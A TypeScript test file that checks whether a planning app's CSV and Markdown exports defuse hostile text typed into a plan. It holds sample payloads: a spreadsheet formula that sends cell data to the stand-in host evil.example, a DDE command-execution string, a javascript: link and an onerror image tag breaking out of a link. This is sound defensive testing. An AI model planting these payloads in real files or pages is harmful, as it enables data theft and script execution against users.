import { beforeAll, describe, expect, it } from 'vitest'
import { DomUtils, parseDocument } from 'htmlparser2'
import { marked } from 'marked'
import { DEMO_IDS } from '../../schema/build'
import { parseCsv } from '../../schema/export'
import { type PlanExport } from '../../schema'
import { type TestServer, useTestServer } from '../helpers/in-process-server'
import { connectClient, eventually } from '../../testkit/y-client'
import { editBody, posOfText } from '../helpers/pm-edit'

// Issue #11 item 5: goals.csv wrote cells starting with = + - @ unchanged (CSV
// injection), and plan.md wrote link targets raw (javascript:, a newline out
// of the link, <img onerror>). Typed by a real editor, read over real HTTP.

let t: TestServer
useTestServer((s) => (t = s))

const FORMULA_GOAL = '=HYPERLINK("http://evil.example/?d="&A1;"Klik")'
const FORMULA_INDICATOR = "@SUM(1+1)*cmd|' /C calc'!A0"
const FORMULA_GROUP = '+ledige'
const BREAKOUT_HREF = 'https://star.dk/)\n\n<img src=x onerror=alert(1)>'

async function hostilePlan(): Promise<{ id: string; token: string }> {
  const admin = t.token('admin', { plan: '*' })
  const res = await fetch(`${t.httpUrl}/api/plans`, {
    method: 'POST',
    headers: { authorization: `Bearer ${admin}` },
    body: JSON.stringify({ template: 'demo', title: 'Fjendtlig tekst' })
  })
  const { plan } = (await res.json()) as { plan: { id: string } }
  const editor = connectClient(t.wsUrl, plan.id, t.token('editor', { plan: plan.id }))
  await editor.synced()
  editBody(editor.doc, (s) => {
    const tr = s.tr
    const at = posOfText(s.doc, 'Færre langtidsledige')
    tr.insertText(FORMULA_GOAL, at, at + 'Færre langtidsledige'.length)
    let targetPos = -1
    tr.doc.descendants((n, p) => {
      if (n.type.name === 'target' && n.attrs.id === DEMO_IDS.targetLongTerm) targetPos = p
      return targetPos < 0
    })
    tr.setNodeAttribute(targetPos, 'indicator', FORMULA_INDICATOR)
    tr.setNodeAttribute(targetPos, 'targetGroup', FORMULA_GROUP)
    const link = (href: string) => s.schema.marks.link!.create({ href })
    tr.insert(
      1 + tr.doc.child(0).nodeSize,
      s.schema.node('paragraph', null, [
        s.schema.text('farligt link', [link('javascript:alert(3)')]),
        s.schema.text(' og '),
        s.schema.text('udbrud', [link(BREAKOUT_HREF)]),
        s.schema.text(' og <img src=y onerror=alert(4)>')
      ])
    )
    return tr
  })
  const viewer = t.token('viewer', { plan: plan.id })
  await eventually(async () => {
    const json = (await (await fetch(`${t.httpUrl}/api/plans/${plan.id}/plan.json`, { headers: { authorization: `Bearer ${viewer}` } })).json()) as PlanExport
    expect(json.goals.map((g) => g.title)).toContain(FORMULA_GOAL)
    expect(json.goals.flatMap((g) => g.targets).map((x) => x.targetGroup)).toContain(FORMULA_GROUP)
  })
  editor.destroy()
  return { id: plan.id, token: viewer }
}

describe('exports defuse hostile text', () => {
  let plan: { id: string; token: string }
  beforeAll(async () => {
    plan = await hostilePlan()
  })
  const get = (path: string) => fetch(`${t.httpUrl}/api/plans/${plan.id}/${path}`, { headers: { authorization: `Bearer ${plan.token}` } })

  it('goals.csv: text cells starting with = + @ get an apostrophe; negative numbers stay numbers', async () => {
    const res = await get('goals.csv')
    expect(res.status).toBe(200)
    const [header, ...rows] = parseCsv(await res.text())
    const col = (name: string) => header!.indexOf(name)
    const row = rows.find((r) => r[col('Målsætning-id')] === DEMO_IDS.targetLongTerm)!
    expect(row[col('Mål')]).toBe(`'${FORMULA_GOAL}`)
    expect(row[col('Indikator')]).toBe(`'${FORMULA_INDICATOR}`)
    expect(row[col('Målgruppe')]).toBe(`'${FORMULA_GROUP}`)
    const text = new Set(header!.map((_, i) => i))
    for (const c of ['Udgangspunkt', 'Målværdi', 'Seneste værdi', 'Sammenligning']) text.delete(col(c))
    for (const r of rows) for (const i of text) expect(r[i]).not.toMatch(/^[=+\-@\t\r]/)
    // The demo's "change" target goes down by 63: a number, written as one.
    expect(rows.flatMap((r) => r[col('Målværdi')])).toContain('-63')
  })

  it('plan.md: no javascript: link, no way out of a link, no live HTML', async () => {
    const res = await get('plan.md')
    expect(res.status).toBe(200)
    const md = await res.text()
    expect(md).toContain('farligt link og [udbrud](')
    expect(md.toLowerCase()).not.toContain('javascript:')
    const elements = DomUtils.findAll(() => true, parseDocument(marked.parse(md, { async: false })).children)
    expect(elements.map((e) => e.name).filter((n) => n === 'img' || n === 'script')).toEqual([])
    expect(elements.flatMap((e) => Object.keys(e.attribs)).filter((a) => a.startsWith('on'))).toEqual([])
    const hrefs = elements.filter((e) => e.name === 'a').map((e) => e.attribs.href!)
    expect(hrefs.length).toBeGreaterThan(0)
    for (const href of hrefs) expect(href).toMatch(/^https?:/)
    expect(hrefs.map((h) => decodeURI(h))).toContain(BREAKOUT_HREF)
  })
})
